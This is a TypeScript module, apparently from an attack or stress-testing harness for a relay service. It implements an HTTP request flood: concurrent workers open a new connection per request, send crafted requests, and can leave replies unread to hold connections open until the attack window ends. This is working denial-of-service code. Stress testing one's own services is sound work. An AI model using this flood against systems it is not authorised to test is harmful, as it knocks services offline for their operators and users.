import { within } from "../attack.ts";
import { isOver, millisLeft, type Target } from "./attack-row.ts";
import { HostileSocket } from "./hostile-socket.ts";

/** A flood of HTTP requests, each on a connection of its own. */
export interface RequestFlood {
  /** Requests at once. */
  atOnce: number;
  /** The requests, one after the other and then again. */
  requests: readonly HostileRequest[];
  /** Whether the answers are read, or waited for without being read. */
  reads?: "everything" | "nothing";
}

/** One request of a flood. */
export interface HostileRequest {
  method?: string;
  target: string;
  headers?: readonly string[];
  body?: string | Uint8Array;
}

/** Asks again and again until the attack ends. Returns the number of requests. */
export async function floodRequests(
  target: Target,
  { atOnce, requests, reads = "everything" }: RequestFlood,
): Promise<number> {
  const written = requests.map((request) => bytesOf(request, target));
  let tried = 0;
  async function worker(): Promise<void> {
    while (!isOver(target)) {
      const bytes = written[tried++ % written.length];
      const socket = await HostileSocket.connect(target.httpUrl);
      if (bytes !== undefined) socket.send(bytes);
      if (reads === "nothing") socket.pause();
      await within(
        millisLeft(target),
        socket.until(() => false),
      );
      socket.terminate();
      // Otherwise a relay that refuses at once would keep this process from everything else.
      await Bun.sleep(0);
    }
  }
  await Promise.all(Array.from({ length: atOnce }, worker));
  return tried;
}

function bytesOf(
  { method = "GET", target: path, headers = [], body = "" }: HostileRequest,
  target: Target,
): Buffer {
  const bytes = Buffer.from(body as string);
  const head = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${new URL(target.httpUrl).host}`,
    "Connection: close",
    ...(bytes.length === 0 ? [] : [`Content-Length: ${bytes.length}`, "Content-Type: application/json"]),
    ...headers,
    "\r\n",
  ];
  return Buffer.concat([Buffer.from(head.join("\r\n")), bytes]);
}
